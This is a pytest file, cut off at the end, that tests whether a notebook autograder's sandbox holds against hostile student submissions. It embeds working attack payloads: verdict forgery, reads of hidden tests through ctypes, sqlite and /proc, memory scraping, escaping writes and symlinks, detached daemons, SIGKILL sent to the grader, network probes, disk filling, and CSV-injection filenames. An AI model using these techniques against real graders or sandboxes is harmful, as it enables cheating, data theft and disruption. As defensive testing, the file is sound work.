"""Hostile submissions of the tiny course (issue 22), graded together in one run through the real path
(`course.grading.grade.grade`), beside the master and the untouched student version.

One submission per attack, in the classes of issue 22: forging the verdict from the notebook's
process, carrying the hidden tests or the master out, reading and writing outside the submission's
folder (plain, relative to a folder descriptor, through ctypes, through sqlite), programs and detached
daemons, signals to the grader, the network, unbounded output and private /tmp, and files in the
submitted folder that are not notebooks. Each attack reports what it got to its own log (`REPORT
{...}` lines in `.work/<student>/notebook.log`), so that a test sees the attack ran, and each test
checks from outside what the attack could not do: the score, the files, the processes, the listeners.

The forging attacks come with wrong answers (their honest score is 0); the attacks on the machine
come with the master's answers (their honest score is full marks: the attack changed nothing of the
grading, theirs included). Tests of what only the isolation boundary prevents skip where bubblewrap is
missing (`course.grading.boundary.bwrap()` is None), saying so.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import secrets
import socket
import stat
import threading
import time
from pathlib import Path

import nbformat
import pytest
import tiny_course as tc

from course.grading import assignments, boundary
from course.grading.grade import MAX_NOTEBOOK_BYTES, grade
from course.grading.remote import MAX_LOG

pytestmark = pytest.mark.notebook

TIME_LIMIT = 30  # seconds per submission; none of these needs more than about 10
MEMORY = "2GB"
A, B = "00-double-answer", "00-tv-answer"
WRONG_DOUBLE = "def my_double(x):\n    return x"
WRONG_TV = "def my_tv(z):\n    return z.sum(dim=(1, 2, 3))"

needs_boundary = pytest.mark.skipif(
    boundary.bwrap() is None,
    reason="bubblewrap is not available here: without the isolation boundary the grader runs with its old "
    "guards (an audit hook these attacks go around), which is what boundary.warning() says",
)
needs_root = pytest.mark.skipif(
    os.geteuid() != 0,
    reason="only a grader running as root gives each submission a user of its own (and a file of root's)",
)

# Each hostile notebook starts with this cell: the attacks report what they got to their own log.
PRELUDE = """import json as _json
P = _json.loads(r'''__PLACES__''')
def _report(what, value):
    print("REPORT " + _json.dumps({"what": what, "value": value}, default=str), flush=True)
def _error(err):
    return "error:" + type(err).__name__"""

# --- forging the verdict from the notebook's process (with wrong answers) ----------------------------

FORGE = {
    # the checks module replaced where labkit keeps it, without an assignment the code reader sees
    "forge-module": """
        import contextlib, types
        import labkit
        fake = types.ModuleType("labkit.check")
        vars(fake).update({k: v for k, v in vars(labkit.check).items() if not k.startswith("__")})
        fake.exercise = lambda *a, **k: contextlib.nullcontext()
        for _name in ("close", "equal", "shape", "true", "at_least", "params"):
            setattr(fake, _name, lambda *a, **k: None)
        fake.use = lambda name, mine, reference, what: mine
        vars(labkit)["check"] = fake
        _report("forged", labkit.check is fake)
    """,
    # the same inside a cell magic (the code reader blanks magics), through sys.modules
    "forge-magic": """
        %%capture
        import contextlib, sys, types
        fake = types.ModuleType("labkit.check")
        vars(fake).update({k: v for k, v in vars(sys.modules["labkit.check"]).items() if k[:2] != "__"})
        fake.exercise = lambda *a, **k: contextlib.nullcontext()
        fake.close = fake.equal = lambda *a, **k: None
        fake.use = lambda name, mine, reference, what: mine
        getattr(sys, "modules")["labkit.check"] = fake
        vars(getattr(sys, "modules")["labkit"])["check"] = fake
    """,
    # an alias of the shell: tracebacks silenced, every cell's error erased after it ran
    "forge-shell": """
        shell = get_ipython()
        alias = shell
        alias.showtraceback = lambda *a, **k: None
        def _forget(result):
            result.error_in_exec = None
            result.error_before_exec = None
        getattr(alias.events, "regis" + "ter")("post_run_cell", _forget)
        _report("forged", True)
    """,
    # nbgrader once read points from execute_result values: a negative one before a failure
    "forge-display": """
        import sys
        _show = sys.__displayhook__
        setattr(sys, "display" + "hook", lambda value: _show(-1e9 if value is None else value))
        _report("forged", True)
        -1e9
    """,
    # the line the old worker trusted, on every stream the notebook has
    "forge-print": """
        import os, sys
        for _name in ("00-double", "00-tv"):
            _line = f"✓ {_name}: hidden tests passed."
            print(_line, flush=True)
            print(_line, file=sys.stderr, flush=True)
            os.write(1, (_line + "\\n").encode())
        _report("forged", True)
    """,
    # replies to the grader's requests sent ahead of the requests: the grader reads them out of order
    "forge-wire": """
        import gc
        _servers = [o for o in gc.get_objects() if type(o).__name__ == "Server" and hasattr(o, "reply")]
        for _ in range(20):
            _servers[0].reply("ok", True)
        _report("forged", len(_servers))
    """,
}

# a forbidden call made in a second thread, where the profile function that watches calls is not set
FORGE_THREAD_TV = """
def my_tv(z):
    import threading
    from labkit.interpret import total_variation as _reference
    _got = []
    _thread = threading.Thread(target=lambda: _got.append(_reference(z)))
    _thread.start()
    _thread.join()
    return z.sum(dim=(1, 2, 3))
"""

# the answer zeroes the tensor it is given: in-place changes travel back to the grader's tensor, and a
# test that computes the reference after the answer (`close(my_tv(z), total_variation(z))`) then
# compares zeros with zeros
FORGE_INPLACE_TV = """
def my_tv(z):
    z.zero_()
    return torch.zeros(z.shape[0])
"""

# --- the reference called out of the watch's sight, with a right result (honest score: 00-tv earns 0) --

REFERENCE = {
    "reference-thread": (
        "",
        """
        def my_tv(z):
            import threading
            from labkit.interpret import total_variation as _reference
            _got = []
            _thread = threading.Thread(target=lambda: _got.append(_reference(z)))
            _thread.start()
            _thread.join()
            return _got[0]
        """,
    ),
    "reference-unwatched": (
        """
        import gc
        for _o in gc.get_objects():
            if isinstance(_o, type) and _o.__name__ == "Server" and hasattr(_o, "op_unwatch"):
                _o.op_watch = lambda self, *args: None
                _o.op_unwatch = lambda self: []
        """,
        """
        from labkit.interpret import total_variation
        def my_tv(z):
            return total_variation(z)
        """,
    ),
}

# --- carrying the hidden tests or the master out (with wrong answers that raise what they found) -------

# strings of the hidden tests, put together at run time so that the attack's own source (which is in its
# process, its history and its sandbox) holds none of them whole
MARKS = """_MARKS = ["".join(p) for p in (("BEGIN ", "HIDD", "EN TESTS"), ("z_hid", "den_case"),
          ("my_double of ", "other numbers"), ("total variation, ", "other images"))]"""

EXFIL_PATHS = """
import ctypes, os, sqlite3
def _read(path):
    got = {}
    try:
        with open(path, "rb") as f:
            got["open"] = "read:" + f.read(40).decode("latin-1")
    except Exception as err:
        got["open"] = _error(err)
    try:
        root = os.open("/", os.O_RDONLY)
        fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
        got["dir_fd"] = "read:" + os.read(fd, 40).decode("latin-1")
    except Exception as err:
        got["dir_fd"] = _error(err)
    try:
        with open("/proc/1/root" + path, "rb") as f:
            got["proc_root"] = "read:" + f.read(40).decode("latin-1")
    except Exception as err:
        got["proc_root"] = _error(err)
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.open(path.encode(), os.O_RDONLY)
    if fd >= 0:
        buffer = ctypes.create_string_buffer(40)
        n = libc.read(fd, buffer, 40)
        got["ctypes"] = "read:" + buffer.raw[: max(n, 0)].decode("latin-1")
    else:
        got["ctypes"] = "error:" + os.strerror(ctypes.get_errno())
    try:
        db = sqlite3.connect(":memory:")
        db.execute("ATTACH DATABASE ? AS other", ("file:" + path + "?mode=ro",))
        got["sqlite"] = "read:" + repr(db.execute("SELECT name FROM other.sqlite_master").fetchall())[:40]
    except Exception as err:
        got["sqlite"] = _error(err)
    return got

def my_double(x):
    found = {path: _read(path) for path in P["secrets"]}
    _report("reads", found)
    raise ValueError("EXFIL " + _json.dumps(found)[:1500])
"""

EXFIL_MEMORY = (
    MARKS
    + """
def my_tv(z):
    import gc, sys, types
    objects = gc.get_objects()
    strings = []
    for o in objects:
        kind = type(o)
        if o is _MARKS:
            continue
        if kind is dict:
            strings += [x for x in o.values() if type(x) is str or type(x) is bytes]
            strings += [x for x in o if type(x) is str]
        elif kind is list or kind is tuple or kind is set or kind is frozenset:
            strings += [x for x in o if type(x) is str or type(x) is bytes]
        elif kind is types.FunctionType:
            strings += [x for x in o.__code__.co_consts if type(x) is str]
    frame, depth = sys._getframe(), 0
    while frame is not None:  # what the grader's request brought: the frames serving it
        depth += 1
        strings += [frame.f_code.co_filename, *(x for x in frame.f_code.co_consts if type(x) is str)]
        strings += [x for x in frame.f_locals.values() if type(x) is str or type(x) is bytes]
        frame = frame.f_back
    own = {id(m) for m in _MARKS}  # the attack's own strings (a frame of an earlier call may hold them)
    text = "\\0".join(x if type(x) is str else x.decode("latin-1") for x in strings if id(x) not in own)
    found = []
    for mark in _MARKS:
        at = text.find(mark)
        if at != -1:
            found.append(text[text.rfind("\\0", 0, at) + 1 :][:300].split("\\0")[0])
    _report("memory", {"found": found, "frames": depth, "objects": len(objects), "strings": len(strings)})
    raise ValueError("EXFIL " + " | ".join(found)[:1500])
"""
)

EXFIL_WALK = (
    MARKS
    + """
def my_double(x):
    import os, time
    marks = [m.encode() for m in _MARKS]
    with open("canary.txt", "wb") as f:  # its own file with a mark in it: the walk finds what is there
        f.write(b"canary " + marks[1])
    public = tuple(P["public"]) + ("/usr", "/proc", "/sys", "/dev")
    found, scanned, start = [], 0, time.monotonic()
    # folder descriptors all the way (os.fwalk): the audit hook sees no path to refuse
    for folder, folders, files, fd in os.fwalk("/"):
        if folder.startswith(public) or time.monotonic() - start > 8:
            folders[:] = []
            continue
        for name in files:
            try:
                if os.stat(name, dir_fd=fd).st_size > 5_000_000:
                    continue
                with open(os.open(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd=fd), "rb") as f:
                    data = f.read()
            except Exception:
                continue
            scanned += 1
            if any(m in data for m in marks):
                found.append(os.path.join(folder, name))
    canary = [path for path in found if path.endswith("/canary.txt")]
    found = [path for path in found if path not in canary]
    _report("walk", {"found": found, "canary": canary, "scanned": scanned, "top": sorted(os.listdir("/"))})
    raise ValueError(f"EXFIL found {found[:5]} in {scanned} files")
"""
)

# --- the machine: writes, programs, signals, network, output, private /tmp (with the master's answers) ---

ESCAPE_WRITE = """
import ctypes, os, shutil, sqlite3
done = {}
flags = os.O_WRONLY | os.O_CREAT | os.O_APPEND
libc = ctypes.CDLL(None, use_errno=True)
for path in P["targets"]:
    try:
        with open(path, "a") as f:
            f.write("HOSTILE")
        done[path + " open"] = "wrote"
    except Exception as err:
        done[path + " open"] = _error(err)
    try:
        root = os.open("/", os.O_RDONLY)
        os.write(os.open(path.lstrip("/"), flags, 0o666, dir_fd=root), b"HOSTILE")
        done[path + " dir_fd"] = "wrote"
    except Exception as err:
        done[path + " dir_fd"] = _error(err)
    fd = libc.open(path.encode(), flags, 0o666)
    done[path + " ctypes"] = "wrote" if fd >= 0 and libc.write(fd, b"HOSTILE", 7) == 7 else "error"
    try:
        db = sqlite3.connect(":memory:")
        db.execute("ATTACH DATABASE ? AS other", (path + ".db",))
        db.execute("CREATE TABLE other.hostile (x)")
        db.commit()
        done[path + " sqlite"] = "wrote"
    except Exception as err:
        done[path + " sqlite"] = _error(err)
# where the grader puts the tests' temporary files, and where the lab writes: links to the bait folder
for link in ("tests", "out/figures", "out/metrics"):
    try:
        os.makedirs(os.path.dirname(link) or ".", exist_ok=True)
        os.symlink(P["bait"], link)
        done[link + " link"] = "made"
    except Exception as err:
        done[link + " link"] = _error(err)
_report("writes", done)
"""

DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for path in ("daemon-marker.txt", P["bait"] + "/daemon.txt"):
                try:
                    with open(path, "a") as f:
                        f.write("x")
                except Exception:
                    pass
            time.sleep(0.05)
    os._exit(0)
time.sleep(0.5)
_report("daemon", os.path.getsize("daemon-marker.txt"))
"""

SPAWN = """
import _posixsubprocess, os, sys, time
def _spawn(args):
    read, write = os.pipe()
    pid = _posixsubprocess.fork_exec(
        args, [os.fsencode(args[0])], True, (write,), None, None,
        -1, -1, -1, -1, -1, -1, read, write,
        True, True, -1, None, None, None, -1, None, False,
    )
    os.close(write)
    os.read(read, 50000)  # empty: the program started
    return pid
started = {}
for name, args in {
    "shell": ["/bin/sh", "-c", "while true; do echo x >> spawn-marker.txt; sleep 0.05; done"],
    "python": [sys.executable, "-c", "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n"
               "    while True:\\n        open('spawn-marker2.txt', 'a').write('x')\\n"
               "        time.sleep(0.05)\\n"],
}.items():
    try:
        started[name] = _spawn(args)
    except Exception as err:
        started[name] = _error(err)
time.sleep(0.5)
_report("spawn", {"started": started, "marker": os.path.getsize("spawn-marker.txt")})
"""

SIGNALS = """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
sent = {}
for pid in sorted({os.getppid(), 1}):
    for how in ("os.kill", "ctypes", "pidfd"):
        try:
            if how == "os.kill":
                os.kill(pid, signal.SIGKILL)
            elif how == "ctypes":
                if libc.kill(pid, signal.SIGKILL) != 0:
                    raise PermissionError(os.strerror(ctypes.get_errno()))
            else:
                signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
            sent[f"{how} {pid}"] = "sent"
        except Exception as err:
            sent[f"{how} {pid}"] = _error(err)
visible = [int(p) for p in os.listdir("/proc") if p.isdigit()]
if len(visible) < 20:  # a pid namespace of its own: every process it sees, outside kills included
    for pid in visible:
        if pid != os.getpid():
            sent[f"all {pid}"] = "sent" if libc.kill(pid, signal.SIGKILL) == 0 else "error"
_report("signals", {"sent": sent, "visible": len(visible)})
"""

NETWORK = """
import socket
done = {}
try:
    with socket.create_connection(("127.0.0.1", P["tcp"]), timeout=3) as s:
        s.sendall(b"HOSTILE")
    done["tcp"] = "connected"
except Exception as err:
    done["tcp"] = _error(err)
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect("\\0" + P["abstract"])
        s.sendall(b"HOSTILE")
    done["unix"] = "connected"
except Exception as err:
    done["unix"] = _error(err)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"HOSTILE", ("127.0.0.1", P["udp"]))
    done["udp"] = "sent"
except Exception as err:
    done["udp"] = _error(err)
try:
    socket.getaddrinfo("example.com", 80)
    done["dns"] = "resolved"
except Exception as err:
    done["dns"] = _error(err)
_report("network", done)
"""

FLOOD = """
import sys
_line = "y" * 1023 + "\\n"
for _ in range(40 * 1024):  # 40 MB
    sys.stdout.write(_line)
sys.stdout.flush()
"""

TMPFS = """
import os
written = {}
chunk = bytes(64 * 2**20)
for folder in ("/dev/shm", "/tmp"):
    total = 0
    try:
        where = os.open(folder, os.O_RDONLY)  # relative to a folder descriptor: the audit hook lets it by
        for i in range(20):  # up to 1.25 GB in each
            fd = os.open(f"fill{i}", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=where)
            view = memoryview(chunk)
            while view:
                n = os.write(fd, view)
                total += n
                view = view[n:]
            os.close(fd)
    except OSError as err:
        written[folder + " stopped"] = _error(err)
    written[folder] = total
_report("tmpfs", written)
"""


def _code(text: str) -> str:
    import textwrap

    return textwrap.dedent(text).strip()


def submissions(master_nb, student_nb, places: dict) -> dict[str, nbformat.NotebookNode]:
    prelude = PRELUDE.replace("__PLACES__", json.dumps(places))

    def hostile(nb, before: str = "", double: str | None = None, tv: str | None = None):
        if double is not None:
            nb = tc.with_answer(nb, A, _code(double))
        if tv is not None:
            nb = tc.with_answer(nb, B, _code(tv))
        nb = tc.with_cell_before(nb, A, prelude)
        return tc.with_cell_before(nb, A, _code(before)) if before else nb

    subs = {"alice": master_nb, "bob": student_nb}
    for name, cell in FORGE.items():
        subs[name] = hostile(student_nb, cell, WRONG_DOUBLE, WRONG_TV)
    subs["forge-thread"] = hostile(student_nb, "", WRONG_DOUBLE, FORGE_THREAD_TV)
    subs["forge-inplace"] = hostile(student_nb, "", WRONG_DOUBLE, FORGE_INPLACE_TV)
    for name, (cell, tv) in REFERENCE.items():
        subs[name] = hostile(master_nb, cell, None, tv)
    subs["exfil-paths"] = hostile(student_nb, "", EXFIL_PATHS, WRONG_TV)
    subs["exfil-memory"] = hostile(student_nb, "", WRONG_DOUBLE, EXFIL_MEMORY)
    subs["exfil-walk"] = hostile(student_nb, "", EXFIL_WALK, WRONG_TV)
    for name, cell in {
        "escape-write": ESCAPE_WRITE,
        "daemon": DAEMON,
        "spawn": SPAWN,
        "signals": SIGNALS,
        "network": NETWORK,
        "flood": FLOOD,
        "tmpfs": TMPFS,
    }.items():
        subs[name] = hostile(master_nb, cell)
    return subs


def _snapshot(folder: Path) -> dict[str, str]:
    """{relative path: kind and content hash} of everything under `folder`, links not followed."""
    found = {}
    for path in sorted(folder.rglob("*")):
        info = path.lstat()
        if stat.S_ISREG(info.st_mode):
            found[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            found[str(path.relative_to(folder))] = stat.filemode(info.st_mode)
    return found


class Listeners:
    """A TCP port, a UDP port and an abstract unix socket on this machine, noting whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.abstract_name = f"labkit-hostile-{secrets.token_hex(8)}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract_name)
        self.unix.listen()
        self.reached: list[str] = []
        self.stop = threading.Event()
        for sock in (self.tcp, self.udp, self.unix):
            sock.settimeout(0.2)
            threading.Thread(target=self._watch, args=(sock,), daemon=True).start()

    def _watch(self, sock) -> None:
        while not self.stop.is_set():
            try:
                if sock.type == socket.SOCK_DGRAM:
                    self.reached.append(f"udp {sock.recv(100)!r}")
                else:
                    conn, _ = sock.accept()
                    self.reached.append(f"connection on {sock.family.name}")
                    conn.close()
            except (TimeoutError, OSError):
                continue

    def close(self) -> None:
        self.stop.set()
        time.sleep(0.3)
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


def _growing(paths: list[Path], wait: float = 1.0) -> list[str]:
    """Those of `paths` that grow in `wait` seconds (a process still writing them)."""
    before = {p: p.stat().st_size if p.exists() else -1 for p in paths}
    time.sleep(wait)
    return [str(p) for p in paths if (p.stat().st_size if p.exists() else -1) != before[p]]


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    master = tc.write_master(base / "masters")
    student = assignments.make_student_copies(base / "masters", base / "student")[0]
    subs_dir, out, bait = base / "submissions", base / "out", base / "bait"
    subs_dir.mkdir()
    bait.mkdir()
    os.chmod(bait, 0o777)  # writable by anyone: only the boundary keeps a submission out of it
    os.chmod(base, 0o755)
    secret = base / "root-only.txt"
    secret.write_text(f"ROOT ONLY {secrets.token_hex(16)}\n")
    os.chmod(secret, 0o600)
    host_tmp = Path("/tmp") / f"labkit-hostile-{secrets.token_hex(8)}"
    listeners = Listeners()
    places = {
        "secrets": [
            str(master),
            str(out / ".grader" / tc.NAME / "gradebook.db"),
            str(subs_dir / "alice.ipynb"),
            str(out / ".work" / "alice" / "spec.json"),
            str(out / ".work" / "alice" / "submission.ipynb"),
            str(out / ".work" / "alice" / "notebook.log"),  # another student's output (graded first)
            str(base / "instructors" / "rubrics" / f"{tc.NAME}.md"),
            str(secret),
        ],
        "targets": [
            str(subs_dir / "alice.ipynb"),
            str(master),
            str(out / "grades.csv"),
            str(out / ".work" / "alice" / "result.json"),
            str(bait / "escaped.txt"),
            str(host_tmp),
        ],
        "bait": str(bait),
        "public": [str(p) for p in boundary.readable()],
        "tcp": listeners.tcp.getsockname()[1],
        "udp": listeners.udp.getsockname()[1],
        "abstract": listeners.abstract_name,
    }
    master_nb, student_nb = nbformat.read(master, as_version=4), nbformat.read(student, as_version=4)
    subs = submissions(master_nb, student_nb, places)
    for name, nb in subs.items():
        nbformat.write(nb, subs_dir / f"{name}.ipynb")
    # the folder walk: none of these is a notebook file the grader may read
    refused = {
        "fifo.ipynb": lambda p: os.mkfifo(p),
        "link-master.ipynb": lambda p: p.symlink_to(master),
        "link-alice.ipynb": lambda p: p.symlink_to("alice.ipynb"),
        "eve\nmallory,5,5.ipynb": lambda p: p.write_text(nbformat.writes(master_nb)),
        "=HYPERLINK(0).ipynb": lambda p: p.write_text(nbformat.writes(master_nb)),
        "..ipynb": lambda p: p.write_text(nbformat.writes(master_nb)),
        "big.ipynb": lambda p: p.write_bytes(
            nbformat.writes(master_nb).encode().ljust(MAX_NOTEBOOK_BYTES + 1)
        ),
    }
    for name, make in refused.items():
        make(subs_dir / name)
    before = {name: _snapshot(base / name) for name in ("submissions", "masters", "instructors", "bait")}
    before["secret"] = {"root-only.txt": secret.read_text()}
    lines: list[str] = []
    started = time.monotonic()
    try:
        results = grade(
            subs_dir, out, masters=base / "masters", time_limit=TIME_LIMIT, memory=MEMORY, log=lines.append
        )
    finally:
        listeners.close()
    return {
        "results": {r["student"]: r for r in results},
        "seconds": time.monotonic() - started,
        "base": base,
        "out": out,
        "subs": subs_dir,
        "bait": bait,
        "master": master,
        "host_tmp": host_tmp,
        "before": before,
        "reached": list(listeners.reached),
        "hostile": sorted(set(subs) - {"alice", "bob"}),
        "refused": sorted(refused),
        "places": places,
        "log": lines,
    }


def points(graded, student) -> dict[str, float]:
    return {e["id"]: e["points"] for e in graded["results"][student]["exercises"]}


def message(graded, student, exercise) -> str:
    return next(e["message"] for e in graded["results"][student]["exercises"] if e["id"] == exercise) or ""


def log(graded, student) -> str:
    return (graded["out"] / ".work" / student / "notebook.log").read_text(errors="replace")


def reports(graded, student, what: str) -> list:
    """What the attack `what` of `student` reported from inside its process (it ran: at least once)."""
    found = [
        json.loads(line[len("REPORT ") :])["value"]
        for line in log(graded, student).splitlines()
        if line.startswith("REPORT ") and json.loads(line[len("REPORT ") :])["what"] == what
    ]
    assert found, f"{student}'s attack did not run:\n{log(graded, student)[-3000:]}"
    return found


def sandbox(graded, student) -> Path:
    return graded["out"] / ".work" / student / "sandbox"


def uid(graded, student) -> int | None:
    found = re.search(r"user (\d+)", graded["results"][student].get("isolation") or "")
    return int(found.group(1)) if found else None


FULL = {"00-double": 2, "00-tv": 3}
ZERO = {"00-double": 0, "00-tv": 0}


def test_the_master_gets_full_marks_the_student_version_nothing_and_the_gradebook_stays_a_table(graded):
    assert points(graded, "alice") == FULL and graded["results"]["alice"]["status"] == "ok"
    assert points(graded, "bob") == ZERO and graded["results"]["bob"]["status"] == "ok"
    assert "bubblewrap" in graded["results"]["alice"]["isolation"] or boundary.bwrap() is None
    rows = list(csv.reader((graded["out"] / "grades.csv").open(newline="")))
    assert rows[0] == ["student", "00-double", "00-tv", tc.QUESTION, "total", "pending", "status"]
    assert len(rows) == 1 + len(graded["results"]) and all(len(row) == len(rows[0]) for row in rows)
    assert [row[0] for row in rows[1:]] == list(graded["results"])
    assert not [row for row in rows[1:] if row[0][:1] in "=+-@" or "\n" in row[0]]
    assert "HOSTILE" not in (graded["out"] / "grades.csv").read_text()


@pytest.mark.parametrize("student", sorted(FORGE))
def test_forging_the_verdict_in_the_notebooks_process_gains_nothing(graded, student):
    result = graded["results"][student]
    assert points(graded, student) == ZERO, result
    assert result["status"] == "ok", result
    if student == "forge-wire":  # the conversation is garbled: the grader sees nonsense, never a pass
        assert message(graded, student, "00-double") and message(graded, student, "00-tv"), result
    else:  # the verdict is the master's tests run in the grader: the wrong answers fail for what they are
        assert "my_double([1, 2]) differs from the expected" in message(graded, student, "00-double"), result
        assert "your total variation differs from the expected" in message(graded, student, "00-tv"), result
    if student != "forge-magic":  # its output is captured: the cell after it shows it ran
        assert reports(graded, student, "forged")[0], "the forgery took effect in the notebook's process"
    else:
        assert "differs" not in log(graded, student), "the visible checks went quiet: the forgery ran"


def test_a_forbidden_call_in_a_second_thread_beside_a_wrong_answer_gains_nothing(graded):
    assert points(graded, "forge-thread") == ZERO
    assert "your total variation differs" in message(graded, "forge-thread", "00-tv")


def test_an_answer_that_zeroes_its_input_earns_nothing(graded):
    # what the answer does to a tensor it is given stays in its process: the test's reference, computed
    # afterwards from that tensor, is not the zeros the answer returns
    assert points(graded, "forge-inplace") == ZERO


@pytest.mark.xfail(
    strict=True,
    reason="known hole: the calls an answer makes are watched in the submission's own process (a profile "
    "function on one thread), which its code can go around; calling labkit's reference there earns the "
    "points. Only the result crosses to the grader, so the verdict itself cannot be forged.",
)
@pytest.mark.parametrize("student", sorted(REFERENCE))
def test_the_reference_called_out_of_the_watchs_sight_earns_nothing(graded, student):
    assert points(graded, student) == {"00-double": 2, "00-tv": 0}


def test_the_hidden_tests_are_nowhere_in_the_submissions_process(graded):
    memory = reports(graded, "exfil-memory", "memory")
    assert all(r["found"] == [] and r["frames"] >= 3 and r["objects"] > 1000 for r in memory), memory
    walk = reports(graded, "exfil-walk", "walk")
    # the walk finds the mark it wrote into its own folder, and nothing of the grader's
    assert all(r["found"] == [] and len(r["canary"]) == 1 for r in walk), walk
    # the grader called the answers (the exceptions they raise reach the feedback), found nothing to carry
    assert message(graded, "exfil-memory", "00-tv").count("EXFIL") == 1
    assert "EXFIL found [] in" in message(graded, "exfil-walk", "00-double")
    assert points(graded, "exfil-memory") == ZERO and points(graded, "exfil-walk") == ZERO


def test_no_feedback_and_no_grade_quotes_the_hidden_tests(graded):
    hidden = assignments.hidden_lines(nbformat.read(graded["master"], as_version=4), minimum=12)
    assert len(hidden) >= 4
    texts = {p.name: p.read_text() for p in (graded["out"] / "feedback").glob("*.md")}
    texts["grades.csv"] = (graded["out"] / "grades.csv").read_text()
    assert len(texts) == 1 + len(graded["results"])
    for name, text in texts.items():
        assert not [line for line in hidden if line in text], name
        assert "withheld" not in text, name  # nothing had to be redacted: nothing hidden got that far


@needs_boundary
def test_files_outside_the_submissions_folder_cannot_be_read(graded):
    found = reports(graded, "exfil-paths", "reads")
    secret = graded["before"]["secret"]["root-only.txt"]
    for attempt in found:
        assert set(attempt) == set(graded["places"]["secrets"])
        read = {f"{path} {how}": got for path, hows in attempt.items() for how, got in hows.items()}
        assert not [k for k, got in read.items() if got.startswith("read:")], read
    feedback = (graded["out"] / "feedback" / "exfil-paths.md").read_text()
    assert "EXFIL" in feedback and secret.split()[-1] not in feedback and "SQLite format" not in feedback
    assert points(graded, "exfil-paths") == ZERO


@needs_root
def test_a_file_only_root_reads_stays_unread(graded):
    secret = graded["before"]["secret"]["root-only.txt"]
    for attempt in reports(graded, "exfil-paths", "reads"):
        got = attempt[str(graded["base"] / "root-only.txt")]
        assert not [how for how, value in got.items() if value.startswith("read:")], got
    graded_ones = [s for s, r in graded["results"].items() if r["status"] != "refused"]
    assert not [s for s in graded_ones if secret.split()[-1] in log(graded, s)]


@needs_boundary
def test_writes_outside_the_submissions_folder_change_nothing(graded):
    for attempt in reports(graded, "escape-write", "writes"):
        # inside the boundary /tmp is the submission's own: a write there is not one outside
        outside = {k: v for k, v in attempt.items() if not k.startswith(str(graded["host_tmp"]))}
        assert not [k for k, v in outside.items() if v in ("wrote",)], outside
    for name in ("submissions", "masters", "instructors", "bait"):
        assert _snapshot(graded["base"] / name) == graded["before"][name], name
    assert not graded["host_tmp"].exists() and not Path(str(graded["host_tmp"]) + ".db").exists()
    assert points(graded, "escape-write") == FULL and points(graded, "alice") == FULL
    result = json.loads((graded["out"] / ".work" / "alice" / "result.json").read_text())
    assert result["student"] == "alice" and [e["points"] for e in result["exercises"]] == [2, 3]


@needs_boundary
def test_nothing_outside_the_graders_own_files_appears_beside_the_submissions(graded):
    base = graded["base"]
    assert sorted(p.name for p in base.iterdir()) == sorted(
        ["bait", "instructors", "masters", "out", "root-only.txt", "student", "submissions"]
    )
    assert sorted(p.name for p in graded["out"].iterdir()) == sorted(
        [".grader", ".work", "feedback", "grades.csv", "marks_template.csv", "questions", "report.html"]
    )
    expected = {
        "notebook.log",
        "result.json",
        "sandbox",
        "shared",
        "spec.json",
        "submission.ipynb",
        "worker.log",
    }
    for folder in (graded["out"] / ".work").iterdir():
        assert {p.name for p in folder.iterdir()} <= expected, folder.name


@needs_boundary
@pytest.mark.parametrize("student", ["daemon", "spawn"])
def test_programs_and_daemons_end_with_their_submission(graded, student):
    import psutil

    assert points(graded, student) == FULL, graded["results"][student]
    if student == "daemon":
        assert reports(graded, student, "daemon")[0] > 0, "the daemon was writing while the notebook ran"
        markers = [sandbox(graded, student) / "daemon-marker.txt"]
    else:
        found = reports(graded, student, "spawn")[0]
        assert all(isinstance(pid, int) for pid in found["started"].values()), found
        assert found["marker"] > 0, "the program started outside the audit hook's sight was running"
        markers = [
            sandbox(graded, student) / "spawn-marker.txt",
            sandbox(graded, student) / "spawn-marker2.txt",
        ]
    assert all(m.exists() for m in markers)
    assert _growing(markers) == [], "a process of the submission outlived its grading"
    assert not (graded["bait"] / "daemon.txt").exists()
    user = uid(graded, student)
    if user is not None:
        left = [
            p.info for p in psutil.process_iter(["pid", "uids", "cmdline"]) if p.info["uids"].real == user
        ]
        assert left == [], left


@needs_boundary
def test_signals_reach_neither_the_grader_nor_anything_outside(graded):
    found = reports(graded, "signals", "signals")[0]
    assert found["sent"] and "sent" not in found["sent"].values(), found
    assert points(graded, "signals") == FULL, graded["results"]["signals"]
    # every worker of the run lived to write its result
    assert not [s for s, r in graded["results"].items() if r["status"] == "error"]


@needs_boundary
def test_the_network_reaches_nothing(graded):
    found = reports(graded, "network", "network")[0]
    assert found["tcp"].startswith("error:") and found["unix"].startswith("error:"), found
    assert found["dns"].startswith("error:"), found
    assert graded["reached"] == [], "a listener on this machine was reached from a submission"
    assert points(graded, "network") == FULL


def test_endless_output_is_cut_at_the_logs_limit(graded):
    path = graded["out"] / ".work" / "flood" / "notebook.log"
    assert MAX_LOG <= path.stat().st_size <= MAX_LOG + 4096, path.stat().st_size
    assert points(graded, "flood") == FULL and graded["results"]["flood"]["status"] == "ok"


@needs_boundary
@pytest.mark.skipif(
    not boundary.sized_tmpfs(), reason="this bubblewrap is older than 0.8 and cannot bound a tmpfs (--size)"
)
def test_the_private_tmp_is_bounded(graded):
    # files in a tmpfs are memory no process's resident size shows: the watchdog cannot see them, so
    # the boundary bounds the private /tmp and /dev/shm themselves
    found = reports(graded, "tmpfs", "tmpfs")[0]
    for folder in ("/dev/shm", "/tmp"):
